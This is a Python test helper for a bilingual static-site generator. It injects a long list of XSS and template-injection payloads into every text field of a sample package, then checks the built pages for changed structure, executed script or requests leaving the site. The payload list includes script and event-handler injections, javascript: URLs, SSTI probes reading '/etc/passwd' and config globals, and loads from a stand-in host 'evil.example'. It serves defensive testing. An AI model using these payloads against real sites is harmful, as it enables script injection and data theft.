"""Texts that would act if one page took them for something else than texts, put into every text of a package.

`python tests/helpers/payloads.py [OPENED]` goes through every text with every one of them: as many builds as there are payloads, each of
them compared page by page with that of a harmless package, and every page opened in Chromium with the policy of the site and
without it. With OPENED only the pages of that many builds are opened.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import sys
import time
from collections import Counter
from collections.abc import Iterator, Mapping, Sequence
from contextlib import chdir
from dataclasses import dataclass, field
from datetime import date
from html.parser import HTMLParser
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import yaml
from browsing import browsers
from folders import BASE
from given import given
from playwright.sync_api import Browser, BrowserContext
from serving import served
from sites import built

from generator.core import sources

EVIL = "https://evil.example"

PAYLOADS = (
    # elements
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "x--><script>alert(1)</script>",  # what begins with a dash is refused
    "]]><script>alert(1)</script>",
    f"<script src={EVIL}/a.js></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    f"<img src={EVIL}/a.png>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:parent.alert(1)></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    f"<embed src={EVIL}/a.swf>",
    f"<base href={EVIL}/>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    f"<link rel=stylesheet href={EVIL}/a.css>",
    f"<style>@import '{EVIL}/a.css';</style>",
    f"<form action={EVIL}/><button>x</button></form>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    # ends of attributes and of texts in scripts
    '" onmouseover=alert(1) x="',
    "' onmouseover='alert(1)",
    '" autofocus onfocus=alert(1) x="',
    "` onclick=alert(1) `",
    f'" style="background:url({EVIL}/a.png)" x="',
    "x' style='position:fixed;inset:0",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    '"};alert(1);var x={"',
    "';alert(1);'",
    "${alert(1)} `${alert(1)}`",
    # templates, Markdown, Vega, addresses
    "{{ 7*7 }} {% raw %} {# x #}",
    "{{ config.__class__.__init__.__globals__ }}",
    "{% include '/etc/passwd' %}",
    "[x](javascript:alert(1)) ![x](x)",
    f"![x]({EVIL}/a.png) <{EVIL}>",
    "# x **b** `c` | d | { onclick=alert(1) }",
    "datum.x; alert(1)",
    '{"signal": "alert(1)", "expr": "alert(1)"}',
    "constructor.constructor('alert(1)')()",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    f"//{EVIL.partition('//')[2]}/a.js",
)

_TEXT = re.compile(r"(?:.+)_(?:zh|en)|officers|name|evidence|place|office|creator|number|branch")
"""The columns and keys that hold texts; of the rest it is known what it may be."""

_CHOSEN = {("officers",)}
"""Where one of a few words is chosen."""

_REASON = {"reason_zh": "，报告里的数字写错了", "reason_en": " as the office has told us"}
"""What makes a sentence of a reason, which must be one."""


_PACKAGE, _SETTINGS = "data/town", "site_src/site.yaml"

SETTINGS: Mapping[str, Any] = {
    "languages": ["zh", "en"],
    **{
        f"{name}_{language}": "x"
        for name in ("name", "tagline", "keeper", "contact")
        for language in ("zh", "en")
    },
    "records": [{"number": "x", "url": "https://records.example/"}],
    "withdrawn": [{"package": "hamlet", "date": date(2026, 1, 1), "reason_zh": "x", "reason_en": "x"}],
    "branch": "main",
    "repository": "https://forge.example/town/record/",
}
"""What the installation of such a package says of itself."""


@dataclass(frozen=True, slots=True)
class Place:
    """A text of an installation: its file, and the way to it in that."""

    file: str
    steps: tuple[str | int, ...]


def places(package: Path) -> list[Place]:
    """Every text of an installation with a package, empty cells too."""
    own = [Place(_SETTINGS, steps) for steps in _texts(SETTINGS, ())]
    return own + [
        Place(f"{_PACKAGE}/{file.relative_to(package).as_posix()}", steps)
        for file in sorted(package.rglob("*"))
        if file.suffix in (".yaml", ".csv")
        for steps in _texts(_read(file), ())
    ]


def _texts(node: Any, steps: tuple[str | int, ...]) -> Iterator[tuple[str | int, ...]]:
    if isinstance(node, Mapping):
        for key, value in node.items():
            yield from _texts(value, (*steps, key))
    elif isinstance(node, list):
        for at, value in enumerate(node):
            yield from _texts(value, (*steps, at))
    elif isinstance(node, str) and steps not in _CHOSEN and any(_TEXT.fullmatch(str(step)) for step in steps):
        yield steps


def _read(file: Path) -> Any:
    text = file.read_text(encoding="utf-8")
    return yaml.safe_load(text) if file.suffix == ".yaml" else list(csv.DictReader(io.StringIO(text)))


def put(folder: Path, texts: Mapping[Place, str]) -> None:
    """Put texts into their places."""
    for name in {place.file for place in texts}:
        file = folder / name
        content = _read(file)
        for place, text in texts.items():
            if place.file == name:
                node = content
                for step in place.steps[:-1]:
                    node = node[step]
                node[place.steps[-1]] = text
        if file.suffix == ".yaml":
            written = yaml.safe_dump(content, allow_unicode=True, sort_keys=False, width=10_000)
        else:
            stream = io.StringIO()
            writer = csv.DictWriter(stream, list(content[0]), lineterminator="\n")
            writer.writeheader()
            writer.writerows(content)
            written = stream.getvalue()
        file.write_text(written, encoding="utf-8")


def harmless(text: str) -> str:
    """A text of the same length, with a letter in the place of each sign."""
    return "".join(sign if sign.isalnum() or sign == " " else "x" for sign in text)


def hostile(found: Sequence[Place], turn: int) -> dict[Place, str]:
    """A payload for each place, the next one in each turn, and a number with it, since no two may be called the same."""
    texts = {}
    for at, place in enumerate(found):
        payload, last = PAYLOADS[(at + turn) % len(PAYLOADS)], place.steps[-1]
        # What parts the entries of a list stands in none.
        text = payload.replace(";", ",") if isinstance(last, int) else payload
        texts[place] = f"{text}{_REASON.get(str(last), '')} {at}"
    return texts


_OF_LONG_PAGES = re.compile(
    r'<nav class="mz-(?:jump|contents)".*?</nav>\n?|<p class="mz-top">.*?</p>|(?<=<h2) id="[^"]*"', re.DOTALL
)
"""What a page gets from some length on: that of a sign is another when it is escaped."""


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: Counter[str] = Counter()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.update([tag, *(f"{tag} {name}" for name, _ in attrs)])


def structure(site: Path) -> dict[str, Counter[str]]:
    """How often each page has which element and which attribute."""
    found = {}
    for page in sorted(site.rglob("*.html")):
        tags = _Tags()
        tags.feed(_OF_LONG_PAGES.sub("", page.read_text(encoding="utf-8")))
        tags.close()
        found[page.relative_to(site).as_posix()] = tags.found
    return found


@dataclass(slots=True)
class Seen:
    """What a browser saw: how many pages and charts it opened, and what did anything there."""

    pages: int = 0
    charts: int = 0
    ran: list[str] = field(default_factory=list)


_WATCH = """
window.ran = [];
for (const name of ["alert", "confirm", "prompt"]) window[name] = (text) => (top.ran || ran).push(`${name} ${text}`);
document.addEventListener("securitypolicyviolation", (event) => ran.push(`stopped ${event.effectiveDirective} ${event.sample}`));
"""
_ROUSE = """
() => {
  for (const item of document.querySelectorAll("a, button, summary, input, td, span")) {
    for (const kind of ["mouseover", "focus"]) item.dispatchEvent(new Event(kind, { bubbles: true }));
  }
}
"""


def _visit(context: BrowserContext, address: str, paths: Sequence[str], seen: Seen) -> None:
    """Open pages, rouse what is on them, and have every chart drawn."""
    context.add_init_script(_WATCH)
    page = context.new_page()
    page.on(
        "request",
        lambda asked: (
            None if asked.url.startswith((address, "blob:", "data:")) else seen.ran.append(asked.url)
        ),
    )
    page.on("pageerror", lambda error: seen.ran.append(f"error {error}"))
    page.on("console", lambda said: seen.ran.append(f"said {said.text}") if said.type == "error" else None)
    for path in paths:
        page.goto(f"{address}/{path}")
        page.evaluate(_ROUSE)
        for button in page.query_selector_all("[data-mz-chart] [data-mz-open]"):
            if button.is_visible():
                button.click()
                page.wait_for_selector(".mz-figure__chart svg")
                seen.charts += 1
        seen.ran += [f"{path}: {item}" for item in page.evaluate("ran")]
        if not page.url.startswith(address):
            seen.ran.append(f"{path}: left for {page.url}")
        seen.pages += 1


def watched(browser: Browser, site: Path, paths: Sequence[str], *, policy: bool) -> Seen:
    """What pages of a site do in a browser, with their policy or without."""
    seen = Seen()
    with served(site) as address:
        context = browser.new_context(bypass_csp=not policy)
        try:
            _visit(context, address, paths, seen)
        finally:
            context.close()
    return seen


def make(folder: Path, texts: Mapping[Place, str]) -> None:
    """Build the site of the town, with texts in the place of its own, as `site` in a folder."""
    shutil.copytree(BASE / "town", folder / _PACKAGE)
    settings = folder / _SETTINGS
    settings.parent.mkdir()
    settings.write_text(yaml.safe_dump(SETTINGS), encoding="utf-8")
    put(folder, texts)
    with chdir(folder):
        sources.forget()
        built(folder / "data", folder, "site")
    sources.forget()


def main() -> None:
    """Go through all turns."""
    opened = given(__doc__, opened=len(PAYLOADS)).opened
    found = places(BASE / "town")
    wrong: list[str] = []
    count: Counter[str] = Counter()
    begun = time.process_time()
    with browsers() as started:
        for turn in range(len(PAYLOADS)):
            texts = hostile(found, turn)
            kinds = {"hostile": texts, "control": {place: harmless(text) for place, text in texts.items()}}
            with TemporaryDirectory() as folder:
                for kind, chosen in kinds.items():
                    make(Path(folder) / kind, chosen)
                site, control = (Path(folder) / kind / "site" for kind in kinds)
                one, other = structure(site), structure(control)
                wrong += [
                    f"turn {turn}: {path} has another structure"
                    for path in sorted(one.keys() | other.keys())
                    if one.get(path) != other.get(path)
                ]
                for policy in (True, False) if turn < opened else ():
                    paths = [path for path in one if path != "404.html"]
                    seen = watched(started("wide"), site, paths, policy=policy)
                    wrong += [f"turn {turn}, policy {policy}: {item}" for item in seen.ran]
                    count.update(opened=seen.pages, charts=seen.charts)
            count.update(builds=2, compared=len(one))
    told = wrong or ["nothing ran, and no page has another structure than its control"]
    spent = time.process_time() - begun
    head = f"{len(found)} texts, {len(PAYLOADS)} payloads in each: {dict(count)}; {spent:.0f} CPU-s"
    sys.stdout.write("\n".join([head, *told, ""]))
    sys.exit(bool(wrong))


if __name__ == "__main__":
    main()
